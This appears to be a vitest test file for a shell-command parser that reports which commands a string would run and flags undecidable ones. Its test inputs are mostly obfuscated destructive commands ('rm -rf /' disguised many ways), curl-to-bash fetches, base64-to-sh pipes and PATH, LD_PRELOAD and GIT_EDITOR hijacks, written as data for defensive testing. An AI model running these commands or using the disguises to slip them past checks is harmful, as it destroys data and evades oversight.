import { describe, expect, test } from 'vitest';
import { foundIn } from './found-in.ts';

type Row = readonly [source: string, ...found: string[]];

/** The text does at least this. */
function does(rows: readonly Row[]): void {
  for (const [source, ...found] of rows) {
    test(JSON.stringify(source), () => expect(foundIn(source)).toEqual(expect.arrayContaining([...found])));
  }
}

describe('a name in disguise is the name', () => {
  does([
    [`r''m x`, 'rm x'],
    [`"rm" x`, 'rm x'],
    [`'r'"m" x`, 'rm x'],
    [`$'\\x72m' x`, 'rm x'],
    [`$'\\162\\155' x`, 'rm x'],
    ['\\rm -rf /', 'rm -rf /'],
    ['r\\\nm x', 'rm x'],
    ['i\\\nf rm x; then y; fi', 'rm x', 'y'],
    ['/bin/rm x', '/bin/rm x'],
    ['{rm,-rf,/}', 'rm -rf /'],
    ['r{m,x} y', 'rm rx y'],
    ['ls\nrm x', 'rm x'],
    ['ls;rm x', 'rm x'],
    ['ls&rm x', 'rm x'],
    ['x=1 rm y', 'rm y'],
    ['>/dev/null rm x', 'rm x'],
    ['2>/dev/null rm x', 'rm x'],
    ['ls #\nrm x', 'rm x'],
    ['ls() { rm x; }; ls', 'rm x'],
    ['alias ls="rm x"', 'rm x'],
  ]);
});

describe('a name that shows only when it runs is ?', () => {
  does([
    ['"$(echo rm)" -rf /', 'echo rm', '?'],
    ['$(echo rm) x', '?'],
    ['`echo rm` x', '?'],
    ['$x y', '?'],
    ['${x}m y', '?'],
    ['r$x y', '?'],
    ['/bin/r? x', '?'],
    ['/bin/[r]m x', '?'],
    ['*', '?'],
    ['$@', '?'],
    ['rm\u00a0-rf /', '?'],
    ['rm\u2003x', '?'],
    ['r\u200bm x', '?'],
    ['=rm x', '?'],
    ['"" x', '?'],
    ['ls\u0000rm', '?'],
  ]);
});

describe('wrappers run what they are told to', () => {
  does([
    [`sh -c 'rm x'`, `sh -c 'rm x'`, 'rm x'],
    [`bash -lc "rm x; ls"`, 'rm x', 'ls'],
    [`bash -o pipefail -c 'rm x'`, 'rm x'],
    [`/bin/sh -ec 'rm x'`, 'rm x'],
    [`sh -c "sh -c 'rm x'"`, 'rm x'],
    [`sh -c "rm $x"`, '?', `rm '$x'`],
    [`bash<<<'rm -rf /'`, 'rm -rf /'],
    ['bash <<EOF\nrm x\nEOF', 'rm x'],
    ['bash -s <<EOF\nrm x\nEOF', 'rm x'],
    ['sudo bash <<EOF\nrm x\nEOF', 'rm x'],
    ['bash <<EOF\n$y\nEOF', '?'],
    ['bash script.sh', 'bash script.sh'],
    ['sudo rm x', 'sudo rm x', 'rm x'],
    ['sudo -u root -- rm x', 'rm x'],
    ['sudo A=b rm x', 'rm x'],
    ['sudo -s rm x', 'rm x'],
    ['sudo --frobnicate y rm x', '?'],
    ['sudo $x rm', '?'],
    ['doas -u root rm x', 'rm x'],
    ['env rm x', 'rm x'],
    ['env -i A=b rm x', 'rm x'],
    ['env -u A rm x', 'rm x'],
    [`env -S 'rm x' y`, 'rm x y'],
    [`env --split-string='rm x'`, 'rm x'],
    ['xargs rm', 'rm'],
    ['xargs -0 -n 1 rm -f', 'rm -f'],
    [`xargs -I{} sh -c 'rm {}'`, `rm '{}'`],
    ['xargs sh -c', '?'],
    ['xargs sudo', '?'],
    ['nohup rm x &', 'rm x'],
    ['timeout 5 rm x', 'rm x'],
    ['timeout -k 5 -s KILL 10 rm x', 'rm x'],
    ['nice -n 5 rm x', 'rm x'],
    ['nice -5 rm x', 'rm x'],
    ['ionice -c 3 rm x', 'rm x'],
    ['setsid rm x', 'rm x'],
    ['stdbuf -oL rm x', 'rm x'],
    ['/usr/bin/time -v rm x', 'rm x'],
    ['time -f %e rm x', 'rm x'],
    ['command rm x', 'rm x'],
    ['exec -a ls rm x', 'rm x'],
    ['builtin eval "rm x"', 'rm x'],
    ['eval rm x', 'rm x'],
    [`eval 'rm x; ls'`, 'rm x', 'ls'],
    ['eval "$x"', '?'],
    ['find . -exec rm {} +', `rm '{}'`],
    ['find . -name x -execdir rm -f {} \\; -ok ls {} \\;', `rm -f '{}'`, `ls '{}'`],
    [`find . -exec sh -c 'rm "$1"' _ {} \\;`, `rm '$1'`],
    ['watch -n 1 rm x', 'rm x'],
    ['parallel rm ::: a b', 'rm'],
    ['parallel ::: "rm x"', '?'],
    ['busybox rm x', 'rm x'],
    [`su -c 'rm x' root`, 'rm x'],
    ['flock /tmp/l rm x', 'rm x'],
    [`script -qc 'rm x' /dev/null`, 'rm x'],
    [`trap 'rm x' EXIT`, 'rm x'],
    ['chroot / rm x', 'rm x'],
    ['timeout 5 sudo env A=b nohup sh -c "rm x"', 'rm x'],
    ['ssh host rm x', 'ssh host rm x'],
  ]);
});

describe('what a shell reads from elsewhere is ?', () => {
  does([
    ['echo cm0gLXJm | base64 -d | sh', 'base64 -d', 'sh', '?'],
    ['curl https://x.example/i | bash', '?'],
    ['curl https://x.example/i | sudo bash -s -- y', '?'],
    ['bash <(curl https://x.example/i)', '?', 'curl https://x.example/i'],
    ['source <(curl https://x.example/i)', '?'],
    ['. ./script', '. ./script'],
    ['source script', 'source script'],
    ['. "$x"', '?'],
    ['cat x | python3', '?'],
    ['python3 - <<EOF\nimport $x\nEOF', '?'],
    ['python3 - 3<<EOF\nimport os\nEOF', '?'],
    ['python3 /dev/fd/3 <<EOF\nimport os\nEOF', '?'],
    ["python3 - <<'EOF' <&3\nimport os\nEOF", '?'],
    ["echo x | xargs python3 - <<'EOF'\nimport os\nEOF", '?'],
    ['sh', '?'],
    ['sudo -i', '?'],
    ['fish -c "rm x"', '?'],
    ['at now', '?'],
    ['bash "$x"', '?'],
    [`echo 'rm x' | xargs -I% sh -c %`, '?'],
  ]);
});

describe('a program in a here-document is one between quotes', () => {
  does([
    ['python3 - <<EOF\nimport os\nEOF', `python3 -c 'import os\n'`],
    ["python3 <<'EOF'\n$(x)\nEOF", `python3 -c '$(x)\n'`],
    ["sudo -u x timeout 5 python3 -u - a /b <<'EOF'\nimport os\nEOF", `python3 -c 'import os\n'`],
    [`node <<< 'a()'`, `node -e 'a()'`],
    ["perl <<'EOF'\nunlink\nEOF", `perl -e 'unlink\n'`],
    ["ruby - <<'EOF'\nputs 1\nEOF", `ruby -e 'puts 1\n'`],
  ]);
});

describe('what changes the meaning of commands is ?', () => {
  does([
    ['env 1=2 rm x', '?', 'rm x'],
    ['env a-b=2 rm x', '?', 'rm x'],
    [`env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls`, '?'],
    ['sudo a.b=2 rm x', '?', 'rm x'],
    ['cross-env NODE_OPTIONS=-r=x node y', '?'],
    ['KUBECONFIG=x kubectl get pods', '?'],
    ['export KUBECONFIG=x', '?'],
    ['UNHEARD_OF=x make', '?'],
    ['UNHEARD_OF=x; export UNHEARD_OF; make', '?'],
    ['export UNHEARD_OF; read UNHEARD_OF; make', '?'],
    ['set -a; UNHEARD_OF=x; make', '?'],
    ['declare -x UNHEARD_OF=x; make', '?'],
    ['env UNHEARD_OF=x make', '?'],
    ['VIRTUAL_ENV=/tmp/x uv run y', '?'],
    ['PLAYWRIGHT_DOWNLOAD_HOST=x npm ci', '?'],
    [`PATH='$PATH':$PATH ls`, '?'],
    ['PATH=$PATH:bin ls', '?'],
    ['PATH=$PATH::/usr/bin ls', '?'],
    ['PATH=/usr/../tmp:$PATH ls', '?'],
    ['PYTHONPATH=. black x', '?'],
    ['PYTHONPATH=/tmp/x pytest', '?'],
    ['PYTHONPATH=../x pytest', '?'],
    ['PYTHONPATH= pytest', '?'],
    ['PWD=/tmp/x; PYTHONPATH=$PWD pytest', '?'],
    ['PYTHONPATH=. python3 /usr/bin/x', '?'],
    ['LC_ALL=ja_JP.SJIS ls', '?'],
    ['GIT_EDITOR=rm git commit', '?'],
    ['GIT_EDITOR= git commit', '?'],
    ['NODE_OPTIONS="--max-old-space-size=1 -r x" node y', '?'],
    ['PATH=/tmp/evil ls', '?', 'ls'],
    ['export PATH=/tmp/evil:$PATH', '?'],
    ['LD_PRELOAD=./x.so ls', '?'],
    ['env LD_PRELOAD=./x.so ls', '?'],
    [`GIT_SSH_COMMAND='sh -c x' git fetch`, '?'],
    ['BASH_ENV=x bash y', '?'],
    ['enable -f x y', '?'],
    [`printf -v 'a[$(rm x)]' y`, '?'],
    ['echo ${x@P}', '?'],
  ]);
});

describe('what is no shell text is ?', () => {
  does([
    ['ls (', '?'],
    ['echo "x', '?'],
    [`echo 'x`, '?'],
    ['if ls; then', 'ls', '?'],
    ['ls;;', 'ls', '?'],
    ['ls | | rm', '?'],
    ['} rm', '?'],
    ['then rm', '?'],
    ['rm *(.)', '?'],
    ['Get-ChildItem | Where-Object { $_.Length -gt 1 }', '?'],
    ['$x = Get-Content y', '?'],
    ['& "C:\\x.exe"', '?'],
    ['echo $((rm x; ls))', '?'],
  ]);
});

test('commands that need no doubt leave none', () => {
  const plain = ['npm test', 'git status && git diff', 'ls -la | head -5', 'python3 script.py', 'node --version'];
  const more = ['for f in *.ts; do wc -l "$f"; done', 'cd src && npm run build > /tmp/log 2>&1', 'bash -n x.sh'];
  const reading = ['while IFS= read -r line; do echo "$line"; done < f', 'if command -v rg >/dev/null; then rg x; fi'];
  const variables = [
    ...['PYTHONPATH=src:$PYTHONPATH pytest -x', 'PYTHONPATH=$PWD/src python3 -m x', 'NODE_ENV=test CI=1 npm test'],
    ...['export PATH="$PATH:/usr/local/go/bin" && go version', 'GIT_PAGER=cat git log', 'GIT_EDITOR=true git commit'],
    ...['NODE_OPTIONS=--max-old-space-size=4096 npm test', 'UNHEARD_OF=1 npm test', 'APP_DATABASE_URL=$x npm test'],
    ...['LC_ALL=C sort x', 'LANG=en_US.UTF-8 ls', 'IFS=, read -r a b', 'UNHEARD_OF=x; echo $UNHEARD_OF'],
  ];
  for (const source of [...plain, ...more, ...reading, ...variables])
    expect(foundIn(source), source).not.toContain('?');
});
